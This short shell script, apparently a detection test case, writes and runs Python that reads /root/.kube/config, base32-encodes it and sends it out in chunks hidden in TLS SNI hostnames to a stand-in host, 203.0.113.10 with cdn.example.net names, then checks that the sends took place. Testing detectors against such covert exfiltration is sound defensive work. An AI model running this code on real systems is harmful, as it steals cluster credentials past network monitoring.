#!/bin/sh
. /opt/case/case.sh

cat >/tmp/sni.py <<'END'
import base64, socket, ssl
data = base64.b32encode(open("/root/.kube/config", "rb").read() * 30).decode().lower().rstrip("=")
c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE; n = 0
for at in range(0, len(data), 60):
    s = socket.create_connection(("203.0.113.10", 9001)); s.settimeout(0.05)
    try: c.wrap_socket(s, server_hostname=f"{data[at:at + 60]}.{n}.cdn.example.net")
    except OSError: n += 1
open("/tmp/sent", "w").write(str(n))
END
python3 /tmp/sni.py
test "$(cat /tmp/sent)" -gt 30
took_place
